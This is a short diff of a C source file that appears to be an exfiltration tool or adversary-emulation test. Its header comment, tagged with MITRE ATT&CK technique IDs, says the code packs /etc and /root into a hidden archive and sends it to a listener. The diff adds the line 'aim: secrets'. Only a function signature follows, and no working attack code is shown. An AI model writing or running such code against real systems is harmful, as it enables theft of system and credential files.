@@ -1,4 +1,5 @@
-/* T1560.001, T1074.001, T1048: packs /etc and /root into one file out of sight, and sends that to a listener. */
+/* T1560.001, T1074.001, T1048: packs /etc and /root into one file out of sight, and sends that to a listener.
+ * aim: secrets */
 #include "loopback.h"
 
 static int32_t pack(const char *archive, const char *folder)
